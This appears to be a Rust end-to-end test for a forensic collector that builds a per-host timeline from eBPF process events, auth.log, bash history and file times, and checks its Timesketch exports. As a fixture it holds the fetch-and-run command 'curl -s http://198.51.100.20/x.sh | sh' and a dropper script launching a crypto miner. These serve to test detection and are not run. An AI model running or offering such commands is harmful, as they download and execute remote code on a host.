//! One timeline per host: after a collection, the host's timeline holds — in time order, each
//! with its source — a process the sensor saw exec, an SSH login from the collected auth.log,
//! a command from the collected shell history and a collected file's modification time; and
//! the Timesketch export is something Timesketch can import (checked with Python's own
//! RFC 3339 parser and CSV reader).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::process::Command;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use cairn_harness::*;
use serde_json::Value;

fn date_utc(epoch: i64, format: &str) -> String {
    let out = Command::new("date")
        .env("LC_ALL", "C")
        .args(["-u", "-d", &format!("@{epoch}"), &format!("+{format}")])
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn rfc3339(epoch: i64) -> String {
    date_utc(epoch, "%Y-%m-%dT%H:%M:%SZ")
}

const COMMAND: &str = "curl -s http://198.51.100.20/x.sh | sh";

#[test]
fn timeline_holds_exec_login_history_and_file_time_in_order_and_exports_for_timesketch() {
    let work = workdir("timeline").unwrap();
    let (collector, _agent, host) = collector_with_agent(work.path()).unwrap();
    collector
        .wait_sensor_live(&host, Duration::from_secs(60))
        .unwrap();

    let t0 = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    let marker = format!("cairn-timeline-mark-{}", t0.as_nanos());
    let status = Command::new("/bin/sh")
        .args(["-c", &format!("exec /bin/echo {marker}")])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let t = t0.as_secs() as i64;

    // auth.log in the traditional syslog format (no year), with a line no parser reads.
    let syslog = |e: i64| date_utc(e, "%b %e %H:%M:%S");
    let auth = work.path().join("auth.log");
    std::fs::write(
        &auth,
        format!(
            "{} ip-10-0-1-17 sshd[4170]: Failed password for invalid user admin from 198.51.100.9 port 40022 ssh2\n\
             -- MARK: this line is not syslog --\n\
             {} ip-10-0-1-17 sshd[4121]: Accepted publickey for alice from 203.0.113.7 port 52144 ssh2: ED25519 SHA256:Vd7Kp0Q3mNfY1kq1sBqLQmS0p8m1f4xT9e2r3c5u6w8\n\
             {} ip-10-0-1-17 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u\n",
            syslog(t - 100),
            syslog(t + 2),
            syslog(t + 5),
        ),
    )
    .unwrap();
    let home = work.path().join("home-alice");
    std::fs::create_dir_all(&home).unwrap();
    let history = home.join(".bash_history");
    std::fs::write(
        &history,
        format!("#{}\nid\n#{}\n{COMMAND}\n", t - 50, t + 3),
    )
    .unwrap();
    let evidence = work.path().join("dropper.sh");
    std::fs::write(&evidence, "#!/bin/sh\nexec /tmp/.x/xmrig\n").unwrap();
    let touched = Command::new("touch")
        .args(["-m", "-d", &format!("@{}", t + 4)])
        .arg(&evidence)
        .status()
        .unwrap();
    assert!(touched.success());

    let c = collector
        .collect_wait(
            &host,
            "file",
            "e2e: timeline",
            &[&auth, &history, &evidence],
            Duration::from_secs(180),
        )
        .unwrap();
    assert_eq!(c["status"], "sealed", "{}", summary(&c));

    // Every event of the four kinds in the window, page by page.
    let (from, to) = (rfc3339(t - 10), rfc3339(t + 10));
    // The live stream is shipped in batches: on a loaded machine the exec may reach the
    // collector after the collection is sealed. Waited for (its order is what is tested).
    let seen = wait_for(
        "the marker's exec in the host's live events",
        Duration::from_secs(60),
        || {
            let v = collector.api_get(&format!(
                "/api/v1/hosts/{host}/events?kind=process_exec&from={from}&to={to}&limit=100000"
            ))?;
            Ok(v["events"]
                .as_array()
                .is_some_and(|es| es.iter().any(|e| e.to_string().contains(&marker)))
                .then_some(()))
        },
    );
    seen.unwrap();
    let mut events: Vec<Value> = Vec::new();
    let mut cursor = String::new();
    let mut facets = Value::Null;
    loop {
        let v = collector
            .api_get(&format!(
                "/api/v1/timeline?host={host}&from={from}&to={to}&kind=process_exec,ssh_login,shell_command,file_mtime&order=oldest&limit=200{cursor}"
            ))
            .unwrap();
        if facets.is_null() {
            facets = v["facets"].clone();
        }
        events.extend(v["events"].as_array().unwrap().iter().cloned());
        match v["next_cursor"].as_str() {
            Some(c) => cursor = format!("&cursor={c}"),
            None => break,
        }
    }
    let times: Vec<i64> = events
        .iter()
        .map(|e| e["time_ns"].as_i64().unwrap())
        .collect();
    assert!(
        times.windows(2).all(|w| w[0] <= w[1]),
        "the timeline is in time order"
    );
    // Without `order`, newest first.
    let newest = collector
        .api_get(&format!(
            "/api/v1/timeline?host={host}&from={from}&to={to}&kind=process_exec,ssh_login,shell_command,file_mtime&limit=200&facets=false"
        ))
        .unwrap();
    let newest: Vec<i64> = newest["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["time_ns"].as_i64().unwrap())
        .collect();
    assert!(
        newest.len() > 1 && newest.windows(2).all(|w| w[0] >= w[1]),
        "not newest first: {newest:?}"
    );
    let position = |what: &str, pred: &dyn Fn(&Value) -> bool| {
        let found: Vec<usize> = events
            .iter()
            .enumerate()
            .filter(|(_, e)| pred(e))
            .map(|(i, _)| i)
            .collect();
        assert_eq!(
            found.len(),
            1,
            "exactly one {what} in {} events: {:?}",
            events.len(),
            found.iter().map(|i| &events[*i]).collect::<Vec<_>>()
        );
        found[0]
    };
    let ends = |e: &Value, name: &str| e["path"].as_str().is_some_and(|p| p.ends_with(name));
    // Seen live and again in the collection's events.jsonl: stored once.
    let exec = position("eBPF exec", &|e| {
        e["kind"] == "process_exec"
            && e["argv"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == marker.as_str()))
    });
    let login = position("SSH login", &|e| {
        e["kind"] == "ssh_login" && ends(e, "/auth.log")
    });
    let command = position("shell command", &|e| {
        e["kind"] == "shell_command" && e["message"] == COMMAND
    });
    let mtime = position("file mtime", &|e| {
        e["kind"] == "file_mtime" && ends(e, "/dropper.sh")
    });
    assert!(
        exec < login && login < command && command < mtime,
        "order {exec} {login} {command} {mtime}"
    );

    let (e, l, h, m) = (
        &events[exec],
        &events[login],
        &events[command],
        &events[mtime],
    );
    assert_eq!(e["source"], "ebpf", "{e}");
    assert_eq!(e["argv"][0], "/bin/echo");
    assert_eq!(l["source"], "auth.log", "{l}");
    assert_eq!(l["user"], "alice");
    assert_eq!(l["attrs"]["src_ip"], "203.0.113.7");
    assert_eq!(l["time"], rfc3339(t + 2));
    assert_eq!(h["source"], "bash_history", "{h}");
    assert_eq!(h["time"], rfc3339(t + 3));
    assert_eq!(m["source"], "file", "{m}");
    assert_eq!(m["time"], rfc3339(t + 4));
    for x in [l, h, m] {
        assert!(
            x["item_id"].is_string(),
            "an event from evidence names its item: {x}"
        );
    }
    let sources: Vec<&str> = facets["source"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["value"].as_str())
        .collect();
    for s in ["ebpf", "auth.log", "bash_history", "file"] {
        assert!(sources.contains(&s), "facet source {s} in {facets}");
    }
    assert_eq!(facets["total"].as_u64().unwrap() as usize, events.len());

    // The line no parser could read is kept and counted.
    let built = collector
        .api_get(&format!("/api/v1/timeline/sources?host={host}"))
        .unwrap();
    let auth_item = built["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["parser"] == "auth.log")
        .unwrap()
        .clone();
    assert_eq!(auth_item["unparsed"], 1, "{built}");
    let unparsed = collector
        .api_get(&format!(
            "/api/v1/timeline?host={host}&kind=unparsed&q=MARK"
        ))
        .unwrap();
    assert_eq!(unparsed["count"], 1, "{unparsed}");

    // The analyst's table.
    let mut cmd = collector
        .cairn_cmd(Some(&collector.init.admin_token))
        .unwrap();
    cmd.args([
        "timeline",
        &host,
        "--from",
        &from,
        "--to",
        &to,
        "--kind",
        "ssh_login",
        "--grep",
        "publickey",
    ]);
    let table = run(cmd, Duration::from_secs(30))
        .unwrap()
        .ok()
        .unwrap()
        .stdout;
    let row = table
        .lines()
        .find(|l| l.contains("ssh_login"))
        .unwrap_or_else(|| panic!("{table}"));
    assert!(
        row.contains("auth.log") && row.contains("alice") && row.contains(&rfc3339(t + 2)[..19]),
        "{table}"
    );

    // A saved search runs again by name, with the same filters.
    let mut cmd = collector
        .cairn_cmd(Some(&collector.init.admin_token))
        .unwrap();
    cmd.args([
        "timeline",
        &host,
        "--kind",
        "ssh_login,sudo",
        "--grep",
        "alice",
        "--save",
        "alice-auth",
    ]);
    run(cmd, Duration::from_secs(30)).unwrap().ok().unwrap();
    let saved = collector
        .cli_json(&["timeline", "--saved", "alice-auth", "--oldest"])
        .unwrap();
    let kinds: Vec<&str> = saved["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["kind"].as_str())
        .collect();
    assert_eq!(kinds, ["ssh_login", "sudo"], "{saved}");

    // The same through the query language, newest first; an unknown kind is an error that
    // lists the known ones, never an empty answer.
    let q = collector
        .cli_json(&[
            "timeline",
            "--query",
            &format!("host:{host} (kind:ssh_login OR kind:sudo) alice"),
            "--from",
            "-1h",
        ])
        .unwrap();
    let kinds: Vec<&str> = q["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["kind"].as_str())
        .collect();
    assert_eq!(kinds, ["sudo", "ssh_login"], "{q}");
    let mut cmd = collector
        .cairn_cmd(Some(&collector.init.admin_token))
        .unwrap();
    cmd.args(["timeline", "--query", "kind:bogus_kind", "--last", "1h"]);
    let bad = run(cmd, Duration::from_secs(30)).unwrap();
    assert_eq!(bad.code, Some(2), "{}", bad.stderr);
    assert!(
        bad.stderr.contains("bogus_kind") && bad.stderr.contains("ssh_login"),
        "{}",
        bad.stderr
    );

    // Timesketch: JSONL and CSV, checked by Python's parsers. The two exports must see the same
    // events, so their window closes in the past: the live stream keeps adding this busy
    // host's processes to any window still open.
    let closed = t + 5;
    loop {
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64;
        if now >= closed + 3 {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let to = rfc3339(closed);
    let jsonl = work.path().join("timeline.jsonl");
    let csv = work.path().join("timeline.csv");
    for (format, out) in [("timesketch-jsonl", &jsonl), ("timesketch-csv", &csv)] {
        collector
            .cli_json(&[
                "timeline",
                "export",
                &host,
                "--from",
                &from,
                "--to",
                &to,
                "--format",
                format,
                "-o",
                out.to_str().unwrap(),
            ])
            .unwrap();
    }
    let check = r#"
import csv, json, sys
from datetime import datetime
def check(row, where):
    for k in ("message", "datetime", "timestamp_desc"):
        assert row.get(k) not in (None, ""), f"{where}: no {k}: {row}"
    d = datetime.fromisoformat(row["datetime"])
    assert d.tzinfo is not None, f"{where}: datetime without offset: {row['datetime']}"
    assert abs(d.timestamp() * 1e6 - int(row["timestamp"])) < 2, f"{where}: timestamp and datetime differ"
lines = open(sys.argv[1]).read().splitlines()
for i, line in enumerate(lines):
    check(json.loads(line), f"jsonl line {i+1}")
rows = list(csv.DictReader(open(sys.argv[2], newline="")))
for i, row in enumerate(rows):
    check(row, f"csv row {i+1}")
assert len(rows) == len(lines), (len(rows), len(lines))
assert any(json.loads(l)["timestamp_desc"] == "Login Time" for l in lines)
print(len(lines))
"#;
    let out = Command::new("python3")
        .arg("-c")
        .arg(check)
        .arg(&jsonl)
        .arg(&csv)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let n: usize = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    assert!(n >= 4, "the export holds the window's events ({n})");
}
